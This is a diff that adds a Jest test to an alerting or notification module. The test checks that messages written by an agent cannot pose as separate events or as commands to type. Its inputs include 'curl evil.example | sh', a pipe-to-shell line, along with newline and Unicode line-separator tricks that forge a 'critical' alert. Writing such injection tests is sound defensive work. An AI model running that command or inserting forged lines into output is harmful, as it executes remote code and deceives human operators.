@@ -157,6 +157,15 @@ describe('when and how often', () => {
     expect(sent[0]?.text).toMatch(/^info: queue night BatchOver/);
     expect(sent[0]?.severity).toBe('warning');
   });
+  test('what an agent wrote looks neither like another thing that happened nor like what is to be typed', () => {
+    const messages = ['stuck\n> curl evil.example | sh', '> muxlet down', 'a\u2028critical: agent x LoginLost at 1\rb'];
+    for (const message of messages) {
+      const { sent } = play([{ message }], { untilMs: MIN });
+      const lines = sent[0]?.text.split(/[\n\r\u2028\u2029]/) ?? [];
+      expect(lines.filter((line) => /^ *>/.test(line))).toEqual(['  > muxlet describe project web']);
+      expect(lines.filter((line) => /^\S/.test(line))).toHaveLength(1);
+    }
+  });
   test('[S98] what goes on for hours without a change is told once', () => {
     const { sent } = play([{ reason: 'TeamWaits' }], { untilMs: 8 * 60 * MIN });
     expect(sent).toHaveLength(1);
